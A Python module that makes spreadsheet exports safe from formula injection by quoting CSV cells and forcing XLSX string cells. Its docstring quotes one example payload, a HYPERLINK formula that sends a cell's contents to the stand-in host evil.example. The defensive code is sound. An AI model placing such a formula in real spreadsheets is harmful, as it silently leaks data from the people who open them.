"""Cells written from the registry's data into spreadsheets that people open in Excel or LibreOffice.

Names come from schools' lists, and a name such as ``=HYPERLINK("http://evil.example/?x="&A1,"…")`` must
stay a name: openpyxl stores any string that starts with ``=`` as a formula, and a spreadsheet program runs
a CSV cell that starts with ``= + - @``, a tab or a carriage return as one (OWASP's CSV injection rule).
Reports and the registry export both write through here.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from openpyxl.cell import Cell, WriteOnlyCell

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _quoted(text: str) -> bool:
    """Whether ``text`` is written with a leading ``'``: it starts a formula, or it is itself a ``'`` before
    one (so that reading back, :func:`csv_read`, can tell the two apart)."""
    return text.startswith(FORMULA_STARTS) or (text.startswith("'") and _quoted(text[1:]))


def csv_text(text: str) -> str:
    """A CSV cell that no spreadsheet program runs: a leading ``'`` shows the rest as text."""
    return "'" + text if _quoted(text) else text


def csv_read(text: str) -> str:
    """The value :func:`csv_text` wrote: ``csv_read(csv_text(v)) == v`` for every ``v``."""
    return text[1:] if text.startswith("'") and _quoted(text[1:]) else text


def csv_cells(values: Iterable[Any]) -> list[Any]:
    """A CSV row: text made safe, numbers and empty cells as they are."""
    return [csv_text(v) if isinstance(v, str) else v for v in values]


def xlsx_cells(sheet: Any, values: Iterable[Any]) -> list[Cell]:
    """An XLSX row for ``sheet.append`` (ordinary or write-only sheet): every string a text cell, never a
    formula; dates, times and numbers stay real cells."""
    cells = []
    for value in values:
        cell = WriteOnlyCell(sheet, value)
        if isinstance(value, str):
            cell.data_type = "s"
        cells.append(cell)
    return cells
